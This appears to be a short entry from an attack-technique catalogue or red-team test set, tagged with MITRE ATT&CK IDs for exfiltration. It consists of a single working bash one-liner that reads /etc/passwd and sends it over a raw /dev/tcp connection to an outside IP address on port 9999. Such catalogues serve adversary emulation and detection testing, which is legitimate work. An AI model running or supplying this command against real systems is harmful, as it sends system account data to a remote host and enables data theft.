# title: A file goes out through bash's own connection
# technique: T1041 T1048.003
# needs: bash

bash -c 'cat /etc/passwd >/dev/tcp/192.88.99.7/9999'
